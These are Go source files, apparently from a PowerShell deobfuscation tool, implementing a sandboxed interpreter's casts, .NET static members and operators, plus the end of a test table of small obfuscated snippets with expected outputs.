		{`('39S53S46' -split 'S' | % { [char]($_ -bxor '0x4B') }) -join ''`, "l~e"},
		{`"0x10" + 2`, "0x102"},
		{`2 + "0x10"`, "18"},
		{`"{0:X2}" -f 255`, "FF"},
	}
	for _, tc := range cases {
		in := New(Options{})
		out, err := in.EvalSnippet(tc.src)
		if err != nil {
			t.Errorf("EvalSnippet(%q): %v", tc.src, err)
			continue
		}
		got := ToString(Unwrap(out))
		if got != tc.want {
			t.Errorf("EvalSnippet(%q) = %q, want %q", tc.src, got, tc.want)
		}
	}
}
