package psinterp

import (
	"encoding/base64"
	"fmt"
	"math"
	"strconv"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// normalizeTypeName lower-cases a type literal and strips whitespace and
// the System. namespace prefix.
func normalizeTypeName(name string) string {
	n := strings.ToLower(strings.TrimSpace(name))
	// Strip one bracket wrapper ([int] -> int) without harming array
	// suffixes (byte[] stays byte[]).
	if strings.HasPrefix(n, "[") && strings.HasSuffix(n, "]") && !strings.HasSuffix(n, "[]") {
		n = n[1 : len(n)-1]
	}
	n = strings.TrimPrefix(n, "system.")
	return n
}

// castValue implements [type]value conversions.
func (in *Interp) castValue(typeName string, v any) (any, error) {
	switch normalizeTypeName(typeName) {
	case "char":
		return castChar(v)
	case "char[]":
		switch x := v.(type) {
		case string:
			out := make([]any, 0, len(x))
			for _, r := range x {
				out = append(out, Char(r))
			}
			return out, nil
		case []any:
			out := make([]any, len(x))
			for i, e := range x {
				c, err := castChar(e)
				if err != nil {
					return nil, err
				}
				out[i] = c
			}
			return out, nil
		}
		return nil, fmt.Errorf("%w: [char[]] from %T", ErrUnsupported, v)
	case "string":
		return ToString(v), nil
	case "string[]":
		arr := ToArray(v)
		out := make([]any, len(arr))
		for i, e := range arr {
			out[i] = ToString(e)
		}
		return out, nil
	case "int", "int32", "int64", "long", "int16", "short", "uint32", "uint64", "uint16", "sbyte":
		return ToInt(v)
	case "byte":
		n, err := ToInt(v)
		if err != nil {
			return nil, err
		}
		if n < 0 || n > 255 {
			return nil, fmt.Errorf("psinterp: value %d out of byte range", n)
		}
		return n, nil
	case "byte[]":
		switch x := v.(type) {
		case Bytes:
			return x, nil
		case []any:
			out := make(Bytes, len(x))
			for i, e := range x {
				n, err := ToInt(e)
				if err != nil {
					return nil, err
				}
				out[i] = byte(n)
			}
			return out, nil
		case string:
			return Bytes(x), nil
		}
		return nil, fmt.Errorf("%w: [byte[]] from %T", ErrUnsupported, v)
	case "int[]", "int32[]", "object[]", "array":
		return ToArray(v), nil
	case "double", "float", "single", "decimal":
		n, err := ToNumber(v)
		if err != nil {
			return nil, err
		}
		return toFloat(n), nil
	case "bool", "boolean":
		return ToBool(v), nil
	case "void":
		return nil, nil
	case "object":
		return v, nil
	case "regex", "text.regularexpressions.regex":
		o := NewObject("System.Text.RegularExpressions.Regex")
		o.Data = ToString(v)
		return o, nil
	case "scriptblock", "management.automation.scriptblock":
		src := ToString(v)
		body, err := psparser.Parse(src)
		if err != nil {
			return nil, err
		}
		return &ScriptBlockValue{Text: src, Body: body}, nil
	case "type":
		return TypeValue{Name: ToString(v)}, nil
	case "io.memorystream":
		switch x := v.(type) {
		case Bytes:
			return newMemoryStream(x), nil
		case []any:
			b, err := in.castValue("byte[]", x)
			if err != nil {
				return nil, err
			}
			return newMemoryStream(b.(Bytes)), nil
		}
		return nil, fmt.Errorf("%w: [IO.MemoryStream] from %T", ErrUnsupported, v)
	case "security.securestring", "securestring":
		if ss, ok := v.(*SecureString); ok {
			return ss, nil
		}
		return nil, fmt.Errorf("%w: [securestring] from %T", ErrUnsupported, v)
	case "uri":
		o := NewObject("System.Uri")
		o.Data = ToString(v)
		o.Props["absoluteuri"] = ToString(v)
		return o, nil
	case "guid":
		return ToString(v), nil
	case "ref":
		return v, nil
	}
	return nil, fmt.Errorf("%w: cast to [%s]", ErrUnsupported, typeName)
}

func castChar(v any) (any, error) {
	switch x := v.(type) {
	case Char:
		return x, nil
	case int64:
		if x < 0 || x > 0x10FFFF {
			return nil, fmt.Errorf("psinterp: %d out of char range", x)
		}
		return Char(rune(x)), nil
	case float64:
		return castChar(int64(math.Round(x)))
	case string:
		r := []rune(x)
		if len(r) != 1 {
			// PowerShell allows casting numeric strings.
			if n, err := ToInt(x); err == nil {
				return castChar(n)
			}
			return nil, fmt.Errorf("psinterp: cannot cast %q to char", x)
		}
		return Char(r[0]), nil
	case bool:
		return nil, fmt.Errorf("%w: [char] from bool", ErrUnsupported)
	}
	if n, err := ToInt(v); err == nil {
		return castChar(n)
	}
	return nil, fmt.Errorf("%w: [char] from %T", ErrUnsupported, v)
}

func newMemoryStream(b Bytes) *Object {
	o := NewObject("System.IO.MemoryStream")
	o.Data = b
	o.Props["length"] = int64(len(b))
	return o
}

// newEncoding returns an encoding Object for the given variant
// (utf8, unicode, ascii, utf32, bigendianunicode, default, utf7).
func newEncoding(variant string) *Object {
	o := NewObject("System.Text.Encoding")
	o.Data = strings.ToLower(variant)
	return o
}

// staticProperty implements [Type]::Member reads.
func (in *Interp) staticProperty(typeName, member string) (any, error) {
	t := normalizeTypeName(typeName)
	m := strings.ToLower(member)
	switch t {
	case "text.encoding", "encoding":
		switch m {
		case "utf8", "unicode", "ascii", "utf32", "utf7", "bigendianunicode", "default":
			return newEncoding(m), nil
		}
	case "char":
		switch m {
		case "maxvalue":
			return Char(0xFFFF), nil
		case "minvalue":
			return Char(0), nil
		}
	case "int", "int32":
		switch m {
		case "maxvalue":
			return int64(math.MaxInt32), nil
		case "minvalue":
			return int64(math.MinInt32), nil
		}
	case "byte":
		switch m {
		case "maxvalue":
			return int64(255), nil
		case "minvalue":
			return int64(0), nil
		}
	case "math":
		switch m {
		case "pi":
			return math.Pi, nil
		case "e":
			return math.E, nil
		}
	case "environment":
		switch m {
		case "newline":
			return "\r\n", nil
		case "machinename":
			in.markImpure("env read: [environment]::machinename")
			return in.env["computername"], nil
		case "username":
			in.markImpure("env read: [environment]::username")
			return in.env["username"], nil
		case "systemdirectory":
			return "C:\\WINDOWS\\system32", nil
		case "currentdirectory":
			return "C:\\Users\\user", nil
		case "osversion":
			return "Microsoft Windows NT 10.0.19041.0", nil
		}
	case "string":
		if m == "empty" {
			return "", nil
		}
	case "guid":
		if m == "empty" {
			return "00000000-0000-0000-0000-000000000000", nil
		}
	case "io.compression.compressionmode", "compressionmode":
		switch m {
		case "decompress":
			return "Decompress", nil
		case "compress":
			return "Compress", nil
		}
	case "net.securityprotocoltype", "securityprotocoltype":
		return member, nil
	case "net.servicepointmanager", "servicepointmanager":
		return member, nil
	case "datetime":
		switch m {
		case "now", "utcnow":
			in.markImpure("nondeterminism: [datetime]::" + m)
			return "01/01/2021 00:00:00", nil
		}
	case "intptr":
		if m == "zero" {
			return int64(0), nil
		}
	}
	return nil, fmt.Errorf("%w: [%s]::%s", ErrUnsupported, typeName, member)
}

// staticMethod implements [Type]::Method(args) calls.
func (in *Interp) staticMethod(typeName, method string, args []any) (any, error) {
	t := normalizeTypeName(typeName)
	m := strings.ToLower(method)
	switch t {
	case "convert":
		return in.convertStatic(m, args)
	case "char":
		return charStatic(m, args)
	case "string":
		return in.stringStatic(m, args)
	case "array":
		return arrayStatic(m, args)
	case "math":
		return mathStatic(m, args)
	case "regex", "text.regularexpressions.regex":
		return in.regexStatic(m, args)
	case "environment":
		if m == "getenvironmentvariable" && len(args) >= 1 {
			in.markImpure("env read: [environment]::getenvironmentvariable")
			return in.env[strings.ToLower(ToString(args[0]))], nil
		}
		if m == "setenvironmentvariable" && len(args) >= 2 {
			in.markImpure("env write: [environment]::setenvironmentvariable")
			in.setEnv(strings.ToLower(ToString(args[0])), ToString(args[1]))
			return nil, nil
		}
	case "runtime.interopservices.marshal", "marshal":
		return marshalStatic(m, args)
	case "scriptblock", "management.automation.scriptblock":
		if m == "create" && len(args) == 1 {
			return in.castValue("scriptblock", args[0])
		}
	case "text.encoding", "encoding":
		if m == "getencoding" && len(args) == 1 {
			name := strings.ToLower(strings.ReplaceAll(ToString(args[0]), "-", ""))
			switch name {
			case "utf8", "65001":
				return newEncoding("utf8"), nil
			case "utf16", "1200", "unicode":
				return newEncoding("unicode"), nil
			case "ascii", "20127", "usascii":
				return newEncoding("ascii"), nil
			default:
				return newEncoding("utf8"), nil
			}
		}
	case "io.path", "path":
		switch m {
		case "gettemppath":
			in.markImpure("env read: [io.path]::gettemppath")
			return in.env["temp"] + "\\", nil
		case "combine":
			parts := make([]string, len(args))
			for i, a := range args {
				parts[i] = strings.TrimRight(ToString(a), "\\")
			}
			return strings.Join(parts, "\\"), nil
		case "getfilename":
			p := ToString(firstArg(args))
			if i := strings.LastIndexAny(p, "\\/"); i >= 0 {
				return p[i+1:], nil
			}
			return p, nil
		case "getextension":
			p := ToString(firstArg(args))
			if i := strings.LastIndexByte(p, '.'); i >= 0 {
				return p[i:], nil
			}
			return "", nil
		case "getrandomfilename":
			in.markImpure("nondeterminism: [io.path]::getrandomfilename")
			return "deterministic.tmp", nil
		}
	case "guid":
		if m == "newguid" {
			in.markImpure("nondeterminism: [guid]::newguid")
			in.steps += 7 // advance a little entropy deterministically
			return fmt.Sprintf("%08x-0000-4000-8000-000000000000", in.steps), nil
		}
	case "threading.thread", "thread":
		if m == "sleep" {
			return nil, nil
		}
	case "diagnostics.process", "process":
		if m == "start" {
			name := ToString(firstArg(args))
			var rest []string
			for _, a := range args[1:] {
				rest = append(rest, ToString(a))
			}
			return nil, in.host.StartProcess(name, rest)
		}
	case "net.dns", "dns":
		if m == "gethostaddresses" || m == "resolve" || m == "gethostentry" {
			if err := in.host.DNSResolve(ToString(firstArg(args))); err != nil {
				return nil, err
			}
			return "93.184.216.34", nil
		}
	case "console":
		if m == "writeline" || m == "write" {
			in.writeConsole(ToString(firstArg(args)))
			return nil, nil
		}
	case "int", "int32", "int64", "long", "byte", "int16":
		if m == "parse" && len(args) >= 1 {
			return ToInt(args[0])
		}
	case "double", "float", "single":
		if m == "parse" && len(args) >= 1 {
			n, err := ToNumber(args[0])
			if err != nil {
				return nil, err
			}
			return toFloat(n), nil
		}
	case "io.file", "file":
		switch m {
		case "exists":
			return false, nil
		case "writealltext":
			if len(args) >= 2 {
				return nil, in.host.WriteFile(ToString(args[0]), ToString(args[1]))
			}
		case "writeallbytes":
			if len(args) >= 2 {
				b, err := in.castValue("byte[]", args[1])
				if err != nil {
					return nil, err
				}
				return nil, in.host.WriteFile(ToString(args[0]), string(b.(Bytes)))
			}
		case "readalltext", "readallbytes":
			return nil, ErrSideEffect
		}
	case "web.httputility", "httputility", "net.webutility", "webutility":
		switch m {
		case "urldecode", "htmldecode", "urlencode", "htmlencode":
			return ToString(firstArg(args)), nil
		}
	}
	return nil, fmt.Errorf("%w: [%s]::%s()", ErrUnsupported, typeName, method)
}

func firstArg(args []any) any {
	if len(args) == 0 {
		return nil
	}
	return args[0]
}

func (in *Interp) convertStatic(m string, args []any) (any, error) {
	switch m {
	case "frombase64string":
		s := strings.TrimSpace(ToString(firstArg(args)))
		b, err := base64.StdEncoding.DecodeString(s)
		if err != nil {
			// Tolerate missing padding, common in obfuscated samples.
			b, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(s, "="))
			if err != nil {
				return nil, fmt.Errorf("psinterp: FromBase64String: %v", err)
			}
		}
		if err := in.charge(len(b)); err != nil {
			return nil, err
		}
		return Bytes(b), nil
	case "tobase64string":
		b, err := in.castValue("byte[]", firstArg(args))
		if err != nil {
			return nil, err
		}
		return base64.StdEncoding.EncodeToString(b.(Bytes)), nil
	case "toint16", "toint32", "toint64", "tobyte", "touint32":
		if len(args) >= 2 {
			base, err := ToInt(args[1])
			if err != nil {
				return nil, err
			}
			s := strings.TrimSpace(ToString(args[0]))
			n, err := strconv.ParseInt(s, int(base), 64)
			if err != nil {
				return nil, fmt.Errorf("psinterp: Convert::%s(%q, %d): %v", m, s, base, err)
			}
			return n, nil
		}
		return ToInt(firstArg(args))
	case "tochar":
		return castChar(firstArg(args))
	case "tostring":
		if len(args) >= 2 {
			n, err := ToInt(args[0])
			if err != nil {
				return nil, err
			}
			base, err := ToInt(args[1])
			if err != nil {
				return nil, err
			}
			return strconv.FormatInt(n, int(base)), nil
		}
		return ToString(firstArg(args)), nil
	case "toboolean":
		return ToBool(firstArg(args)), nil
	case "todouble":
		n, err := ToNumber(firstArg(args))
		if err != nil {
			return nil, err
		}
		return toFloat(n), nil
	}
	return nil, fmt.Errorf("%w: [convert]::%s", ErrUnsupported, m)
}

func charStatic(m string, args []any) (any, error) {
	switch m {
	case "convertfromutf32":
		n, err := ToInt(firstArg(args))
		if err != nil {
			return nil, err
		}
		return string(rune(n)), nil
	case "toupper":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		return Char(strings.ToUpper(string(rune(c.(Char))))[0]), nil
	case "tolower":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		return Char(strings.ToLower(string(rune(c.(Char))))[0]), nil
	case "isdigit":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		r := rune(c.(Char))
		return r >= '0' && r <= '9', nil
	case "isletter":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		r := rune(c.(Char))
		return r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z', nil
	case "getnumericvalue":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		r := rune(c.(Char))
		if r >= '0' && r <= '9' {
			return float64(r - '0'), nil
		}
		return float64(-1), nil
	case "tostring":
		c, err := castChar(firstArg(args))
		if err != nil {
			return nil, err
		}
		return string(rune(c.(Char))), nil
	}
	return nil, fmt.Errorf("%w: [char]::%s", ErrUnsupported, m)
}

func (in *Interp) stringStatic(m string, args []any) (any, error) {
	switch m {
	case "join":
		if len(args) < 2 {
			return "", nil
		}
		sep := ToString(args[0])
		var items []any
		if len(args) == 2 {
			items = ToArray(args[1])
		} else {
			items = args[1:]
		}
		parts := make([]string, len(items))
		for i, it := range items {
			parts[i] = ToString(it)
		}
		s := strings.Join(parts, sep)
		if err := in.chargeString(len(s)); err != nil {
			return nil, err
		}
		return s, nil
	case "format":
		if len(args) == 0 {
			return "", nil
		}
		return in.formatOperator(ToString(args[0]), args[1:])
	case "concat":
		var sb strings.Builder
		for _, a := range args {
			for _, item := range ToArray(a) {
				sb.WriteString(ToString(item))
			}
			if sb.Len() > in.opts.MaxStringLen {
				return nil, ErrBudget
			}
		}
		if err := in.charge(sb.Len()); err != nil {
			return nil, err
		}
		return sb.String(), nil
	case "isnullorempty":
		return ToString(firstArg(args)) == "", nil
	case "isnullorwhitespace":
		return strings.TrimSpace(ToString(firstArg(args))) == "", nil
	case "new":
		// [string]::new(char[]) or [string]::new(char, count)
		if len(args) == 2 {
			c, err := castChar(args[0])
			if err == nil {
				n, err := ToInt(args[1])
				if err != nil {
					return nil, err
				}
				unit := string(rune(c.(Char)))
				// Reject the count before multiplying: n*len(unit) can
				// wrap int64 for huge n (e.g. 2^62 with a 4-byte rune),
				// bypassing both caps (mirrors mulValues' pattern).
				if n < 0 || n > int64(in.opts.MaxStringLen) ||
					n*int64(len(unit)) > int64(in.opts.MaxStringLen) {
					return nil, ErrBudget
				}
				if err := in.charge(int(n) * len(unit)); err != nil {
					return nil, err
				}
				return strings.Repeat(unit, int(n)), nil
			}
		}
		var sb strings.Builder
		for _, item := range ToArray(firstArg(args)) {
			sb.WriteString(ToString(item))
			if sb.Len() > in.opts.MaxStringLen {
				return nil, ErrBudget
			}
		}
		if err := in.charge(sb.Len()); err != nil {
			return nil, err
		}
		return sb.String(), nil
	case "copy":
		return ToString(firstArg(args)), nil
	case "compare":
		if len(args) >= 2 {
			return int64(strings.Compare(ToString(args[0]), ToString(args[1]))), nil
		}
	case "equals":
		if len(args) >= 2 {
			return ToString(args[0]) == ToString(args[1]), nil
		}
	}
	return nil, fmt.Errorf("%w: [string]::%s", ErrUnsupported, m)
}

func arrayStatic(m string, args []any) (any, error) {
	switch m {
	case "reverse":
		arr, ok := firstArg(args).([]any)
		if !ok {
			if b, isBytes := firstArg(args).(Bytes); isBytes {
				for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
					b[i], b[j] = b[j], b[i]
				}
				return nil, nil
			}
			return nil, fmt.Errorf("%w: [array]::Reverse on %T", ErrUnsupported, firstArg(args))
		}
		for i, j := 0, len(arr)-1; i < j; i, j = i+1, j-1 {
			arr[i], arr[j] = arr[j], arr[i]
		}
		return nil, nil
	case "indexof":
		if len(args) >= 2 {
			for i, v := range ToArray(args[0]) {
				if DeepEqualFold(v, args[1]) {
					return int64(i), nil
				}
			}
			return int64(-1), nil
		}
	case "sort":
		if arr, ok := firstArg(args).([]any); ok {
			sorted := sortValues(arr, false)
			copy(arr, sorted)
			return nil, nil
		}
	}
	return nil, fmt.Errorf("%w: [array]::%s", ErrUnsupported, m)
}

func mathStatic(m string, args []any) (any, error) {
	unary := func(f func(float64) float64) (any, error) {
		n, err := ToNumber(firstArg(args))
		if err != nil {
			return nil, err
		}
		r := f(toFloat(n))
		if r == math.Trunc(r) && math.Abs(r) < 1e15 {
			return int64(r), nil
		}
		return r, nil
	}
	switch m {
	case "abs":
		return unary(math.Abs)
	case "floor":
		return unary(math.Floor)
	case "ceiling":
		return unary(math.Ceil)
	case "round":
		return unary(math.Round)
	case "truncate":
		return unary(math.Trunc)
	case "sqrt":
		return unary(math.Sqrt)
	case "log":
		return unary(math.Log)
	case "exp":
		return unary(math.Exp)
	case "pow":
		if len(args) >= 2 {
			a, err := ToNumber(args[0])
			if err != nil {
				return nil, err
			}
			b, err := ToNumber(args[1])
			if err != nil {
				return nil, err
			}
			r := math.Pow(toFloat(a), toFloat(b))
			if r == math.Trunc(r) && math.Abs(r) < 1e15 {
				return int64(r), nil
			}
			return r, nil
		}
	case "max", "min":
		if len(args) >= 2 {
			a, err := ToNumber(args[0])
			if err != nil {
				return nil, err
			}
			b, err := ToNumber(args[1])
			if err != nil {
				return nil, err
			}
			af, bf := toFloat(a), toFloat(b)
			r := math.Max(af, bf)
			if m == "min" {
				r = math.Min(af, bf)
			}
			if r == math.Trunc(r) {
				return int64(r), nil
			}
			return r, nil
		}
	}
	return nil, fmt.Errorf("%w: [math]::%s", ErrUnsupported, m)
}

func (in *Interp) regexStatic(m string, args []any) (any, error) {
	switch m {
	case "replace":
		if len(args) >= 3 {
			re, err := compileRegex(ToString(args[1]), true)
			if err != nil {
				return nil, err
			}
			return re.ReplaceAllString(ToString(args[0]), translateReplacement(ToString(args[2]))), nil
		}
	case "split":
		if len(args) >= 2 {
			re, err := compileRegex(ToString(args[1]), true)
			if err != nil {
				return nil, err
			}
			pieces := re.Split(ToString(args[0]), -1)
			out := make([]any, len(pieces))
			for i, p := range pieces {
				out[i] = p
			}
			return out, nil
		}
	case "match":
		if len(args) >= 2 {
			re, err := compileRegex(ToString(args[1]), true)
			if err != nil {
				return nil, err
			}
			mres := re.FindString(ToString(args[0]))
			o := NewObject("System.Text.RegularExpressions.Match")
			o.Props["value"] = mres
			o.Props["success"] = mres != ""
			return o, nil
		}
	case "matches":
		if len(args) >= 2 {
			re, err := compileRegex(ToString(args[1]), true)
			if err != nil {
				return nil, err
			}
			var out []any
			for _, mres := range re.FindAllString(ToString(args[0]), -1) {
				o := NewObject("System.Text.RegularExpressions.Match")
				o.Props["value"] = mres
				o.Props["success"] = true
				out = append(out, o)
			}
			return out, nil
		}
	case "escape":
		return escapeRegexMeta(ToString(firstArg(args))), nil
	case "unescape":
		s := ToString(firstArg(args))
		var sb strings.Builder
		for i := 0; i < len(s); i++ {
			if s[i] == '\\' && i+1 < len(s) {
				i++
				sb.WriteByte(s[i])
				continue
			}
			sb.WriteByte(s[i])
		}
		return sb.String(), nil
	}
	return nil, fmt.Errorf("%w: [regex]::%s", ErrUnsupported, m)
}

func escapeRegexMeta(s string) string {
	var sb strings.Builder
	for _, r := range s {
		if strings.ContainsRune(`\.*+?()[]{}|^$#`, r) || r == ' ' {
			sb.WriteByte('\\')
		}
		sb.WriteRune(r)
	}
	return sb.String()
}

func marshalStatic(m string, args []any) (any, error) {
	switch m {
	case "securestringtobstr", "securestringtoglobalallocunicode", "securestringtoglobalallocansi":
		return firstArg(args), nil
	case "ptrtostringauto", "ptrtostringuni", "ptrtostringbstr", "ptrtostringansi":
		switch v := firstArg(args).(type) {
		case *SecureString:
			return v.Plain, nil
		case string:
			return v, nil
		case nil:
			return "", nil
		default:
			return ToString(v), nil
		}
	case "zerofreebstr", "zerofreeglobalallocunicode", "freehglobal":
		return nil, nil
	}
	return nil, fmt.Errorf("%w: [Marshal]::%s", ErrUnsupported, m)
}

// writeConsole appends console output to the transcript and host.
// Console output is an observable side effect a cached replay would
// not reproduce, so it marks the run impure.
func (in *Interp) writeConsole(s string) {
	in.markImpure("console output")
	if in.console.Len() < in.opts.MaxStringLen {
		in.console.WriteString(s)
		in.console.WriteByte('\n')
	}
	in.host.WriteHost(s)
}
