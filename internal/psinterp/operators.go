package psinterp

import (
	"fmt"
	"math"
	"regexp"
	"strconv"
	"strings"
)

// evalBinaryOp implements all non-short-circuit binary operators.
func (in *Interp) evalBinaryOp(op string, l, r any) (any, error) {
	switch op {
	case "+":
		return in.addValues(l, r)
	case "-":
		return arith(l, r, func(a, b int64) int64 { return a - b }, func(a, b float64) float64 { return a - b })
	case "*":
		return in.mulValues(l, r)
	case "/":
		return divide(l, r)
	case "%":
		return arith(l, r, func(a, b int64) int64 {
			if b == 0 {
				return 0
			}
			return a % b
		}, math.Mod)
	case "-f":
		return in.formatOperator(ToString(l), ToArray(r))
	case "..":
		return in.rangeValues(l, r)
	case "-band":
		return bitwise(l, r, func(a, b int64) int64 { return a & b })
	case "-bor":
		return bitwise(l, r, func(a, b int64) int64 { return a | b })
	case "-bxor":
		return bitwise(l, r, func(a, b int64) int64 { return a ^ b })
	case "-shl":
		return bitwise(l, r, func(a, b int64) int64 { return a << uint(b&63) })
	case "-shr":
		return bitwise(l, r, func(a, b int64) int64 { return a >> uint(b&63) })
	case "-and":
		return ToBool(l) && ToBool(r), nil
	case "-or":
		return ToBool(l) || ToBool(r), nil
	case "-xor":
		return ToBool(l) != ToBool(r), nil
	case "-is", "-isnot":
		res := isOfType(l, ToString(r))
		if op == "-isnot" {
			res = !res
		}
		return res, nil
	case "-as":
		v, err := in.castValue(typeNameOf(r), l)
		if err != nil {
			return nil, nil //nolint:nilerr // -as yields $null on failure
		}
		return v, nil
	}
	base, caseSensitive := normalizeComparisonOp(op)
	switch base {
	case "eq", "ne":
		res := equalsOp(l, r, caseSensitive)
		if base == "ne" {
			res = !res
		}
		return res, nil
	case "gt", "ge", "lt", "le":
		c := compareOp(l, r, caseSensitive)
		switch base {
		case "gt":
			return c > 0, nil
		case "ge":
			return c >= 0, nil
		case "lt":
			return c < 0, nil
		default:
			return c <= 0, nil
		}
	case "like", "notlike":
		re, err := compileWildcard(ToString(r), caseSensitive)
		if err != nil {
			return nil, err
		}
		res := re.MatchString(ToString(l))
		if base == "notlike" {
			res = !res
		}
		return res, nil
	case "match", "notmatch":
		re, err := compileRegex(ToString(r), caseSensitive)
		if err != nil {
			return nil, err
		}
		m := re.FindStringSubmatch(ToString(l))
		if m != nil {
			h := NewHashtable()
			for i, g := range m {
				h.Set(strconv.Itoa(i), g)
			}
			for i, name := range re.SubexpNames() {
				if name != "" && i < len(m) {
					h.Set(name, m[i])
				}
			}
			in.lastMatches = h
		}
		res := m != nil
		if base == "notmatch" {
			res = !res
		}
		return res, nil
	case "replace":
		return in.replaceOperator(l, r, caseSensitive)
	case "split":
		return in.splitOperator(l, r, caseSensitive)
	case "join":
		sep := ToString(r)
		parts := ToArray(l)
		elems := make([]string, len(parts))
		for i, p := range parts {
			elems[i] = ToString(p)
		}
		s := strings.Join(elems, sep)
		if err := in.chargeString(len(s)); err != nil {
			return nil, err
		}
		return s, nil
	case "contains", "notcontains":
		res := false
		for _, item := range ToArray(l) {
			if equalsOp(item, r, caseSensitive) {
				res = true
				break
			}
		}
		if base == "notcontains" {
			res = !res
		}
		return res, nil
	case "in", "notin":
		res := false
		for _, item := range ToArray(r) {
			if equalsOp(l, item, caseSensitive) {
				res = true
				break
			}
		}
		if base == "notin" {
			res = !res
		}
		return res, nil
	}
	return nil, fmt.Errorf("%w: operator %q", ErrUnsupported, op)
}

// normalizeComparisonOp strips the dash and case-sensitivity prefix,
// returning the base operator and whether it is case-sensitive.
func normalizeComparisonOp(op string) (string, bool) {
	op = strings.TrimPrefix(op, "-")
	if strings.HasPrefix(op, "c") {
		base := op[1:]
		switch base {
		case "eq", "ne", "gt", "ge", "lt", "le", "like", "notlike",
			"match", "notmatch", "contains", "notcontains", "in",
			"notin", "replace", "split", "join":
			return base, true
		}
	}
	if strings.HasPrefix(op, "i") {
		base := op[1:]
		switch base {
		case "eq", "ne", "gt", "ge", "lt", "le", "like", "notlike",
			"match", "notmatch", "contains", "notcontains", "in",
			"notin", "replace", "split", "join":
			return base, false
		}
	}
	return op, false
}

func equalsOp(l, r any, caseSensitive bool) bool {
	if ls, ok := l.(string); ok {
		rs := ToString(r)
		if caseSensitive {
			return ls == rs
		}
		return strings.EqualFold(ls, rs)
	}
	if lc, ok := l.(Char); ok {
		rs := ToString(r)
		if caseSensitive {
			return string(rune(lc)) == rs
		}
		return strings.EqualFold(string(rune(lc)), rs)
	}
	nl, errL := ToNumber(l)
	nr, errR := ToNumber(r)
	if errL == nil && errR == nil {
		return numericCompare(nl, nr) == 0
	}
	if lb, ok := l.(bool); ok {
		return lb == ToBool(r)
	}
	return ToString(l) == ToString(r)
}

func compareOp(l, r any, caseSensitive bool) int {
	if ls, ok := l.(string); ok {
		rs := ToString(r)
		if !caseSensitive {
			ls = strings.ToLower(ls)
			rs = strings.ToLower(rs)
		}
		return strings.Compare(ls, rs)
	}
	nl, errL := ToNumber(l)
	nr, errR := ToNumber(r)
	if errL == nil && errR == nil {
		return numericCompare(nl, nr)
	}
	return strings.Compare(strings.ToLower(ToString(l)), strings.ToLower(ToString(r)))
}

func (in *Interp) addValues(l, r any) (any, error) {
	switch lv := l.(type) {
	case nil:
		return r, nil
	case string:
		rs := ToString(r)
		// Enforce the per-string cap on the full result, but charge only
		// the appended delta against the cumulative allocation budget:
		// incremental building ($s = $s + 'a' in a loop) is the single
		// most common obfuscation pattern, and charging the full result
		// each round would make it O(n²) in charged bytes.
		if len(lv)+len(rs) > in.opts.MaxStringLen {
			return nil, ErrBudget
		}
		if err := in.charge(len(rs)); err != nil {
			return nil, err
		}
		return lv + rs, nil
	case []any:
		if rv, ok := r.([]any); ok {
			if err := in.charge(16 * (len(lv) + len(rv))); err != nil {
				return nil, err
			}
			return append(append([]any{}, lv...), rv...), nil
		}
		if err := in.charge(16 * (len(lv) + 1)); err != nil {
			return nil, err
		}
		return append(append([]any{}, lv...), r), nil
	case Char:
		switch rv := r.(type) {
		case string:
			return string(rune(lv)) + rv, nil
		case Char:
			return string(rune(lv)) + string(rune(rv)), nil
		default:
			n, err := ToInt(r)
			if err != nil {
				return nil, err
			}
			return int64(lv) + n, nil
		}
	case *Hashtable:
		if rv, ok := r.(*Hashtable); ok {
			merged := NewHashtable()
			for _, k := range lv.Keys() {
				v, _ := lv.Get(k)
				merged.Set(k, v)
			}
			for _, k := range rv.Keys() {
				v, _ := rv.Get(k)
				merged.Set(k, v)
			}
			return merged, nil
		}
		return nil, fmt.Errorf("%w: hashtable + %T", ErrUnsupported, r)
	case Bytes:
		if rv, ok := r.(Bytes); ok {
			return append(append(Bytes{}, lv...), rv...), nil
		}
	}
	return arith(l, r, func(a, b int64) int64 { return a + b }, func(a, b float64) float64 { return a + b })
}

func (in *Interp) mulValues(l, r any) (any, error) {
	switch lv := l.(type) {
	case string:
		n, err := ToInt(r)
		if err != nil {
			return nil, err
		}
		// Bound n before multiplying so the product cannot wrap int64
		// for huge repeat counts.
		if n < 0 || n > int64(in.opts.MaxStringLen) ||
			int64(len(lv))*n > int64(in.opts.MaxStringLen) {
			return nil, ErrBudget
		}
		if err := in.charge(len(lv) * int(n)); err != nil {
			return nil, err
		}
		return strings.Repeat(lv, int(n)), nil
	case []any:
		n, err := ToInt(r)
		if err != nil {
			return nil, err
		}
		if n < 0 || n > 1<<20 || int64(len(lv))*n > 1<<20 {
			return nil, ErrBudget
		}
		if err := in.charge(16 * len(lv) * int(n)); err != nil {
			return nil, err
		}
		out := make([]any, 0, len(lv)*int(n))
		for i := int64(0); i < n; i++ {
			out = append(out, lv...)
		}
		return out, nil
	}
	return arith(l, r, func(a, b int64) int64 { return a * b }, func(a, b float64) float64 { return a * b })
}

func arith(l, r any, iop func(a, b int64) int64, fop func(a, b float64) float64) (any, error) {
	nl, err := ToNumber(l)
	if err != nil {
		return nil, err
	}
	nr, err := ToNumber(r)
	if err != nil {
		return nil, err
	}
	li, lInt := nl.(int64)
	ri, rInt := nr.(int64)
	if lInt && rInt {
		return iop(li, ri), nil
	}
	return fop(toFloat(nl), toFloat(nr)), nil
}

func toFloat(n any) float64 {
	switch x := n.(type) {
	case int64:
		return float64(x)
	case float64:
		return x
	}
	return 0
}

func divide(l, r any) (any, error) {
	nl, err := ToNumber(l)
	if err != nil {
		return nil, err
	}
	nr, err := ToNumber(r)
	if err != nil {
		return nil, err
	}
	li, lInt := nl.(int64)
	ri, rInt := nr.(int64)
	if lInt && rInt {
		if ri == 0 {
			return nil, fmt.Errorf("psinterp: division by zero")
		}
		if li%ri == 0 {
			return li / ri, nil
		}
		return float64(li) / float64(ri), nil
	}
	f := toFloat(nr)
	if f == 0 {
		return nil, fmt.Errorf("psinterp: division by zero")
	}
	return toFloat(nl) / f, nil
}

